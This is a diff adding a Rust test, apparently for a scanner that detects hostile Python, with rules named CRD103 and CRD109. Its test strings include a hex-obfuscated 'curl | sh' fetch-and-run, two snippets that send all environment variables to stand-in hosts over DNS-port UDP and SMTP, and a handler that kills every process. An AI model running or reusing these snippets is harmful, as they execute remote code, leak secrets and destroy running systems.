@@ -1247,3 +1247,22 @@ fn a_helper_that_signals_found_processes_kills_others() {
         "import os, signal\ndef handler(signum, frame):\n    for d in os.listdir('/proc'):\n        if d.isdigit():\n            os.kill(int(d), signal.SIGKILL)\nsignal.signal(signal.SIGALRM, handler)\nsignal.alarm(1)\n",
     );
 }
+
+#[test]
+fn attribute_getters_class_iterators_and_secrets_held_by_attributes() {
+    // `operator.attrgetter("run")(subprocess)` is `subprocess.run`.
+    fires(
+        "CRD103",
+        "import binascii, operator, subprocess\nrun = operator.attrgetter('run')(subprocess)\nrun(binascii.unhexlify('6375726c20782e6578616d706c652e6e6574207c207368').decode(), shell=True)\n",
+    );
+    // Iterating over an instance goes through its class's `__iter__`.
+    fires(
+        "CRD109",
+        "import os, socket\nclass Harvest:\n    def __init__(self, env):\n        self.env = env\n    def __iter__(self):\n        for k, v in self.env.items():\n            yield f'{k}={v}'.encode()\nsink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor part in Harvest(os.environ):\n    sink.sendto(part, ('203.0.113.7', 53))\n",
+    );
+    // A message object given the environment carries it to the mail server.
+    fires(
+        "CRD109",
+        "import json, os, smtplib\nfrom email.message import EmailMessage\nclass Envelope:\n    def __init__(self, payload):\n        self.msg = EmailMessage()\n        self.msg.set_content(payload)\n    def post(self):\n        with smtplib.SMTP('mail.example.net', 25) as conn:\n            conn.send_message(self.msg)\nEnvelope(json.dumps(dict(os.environ))).post()\n",
+    );
+}
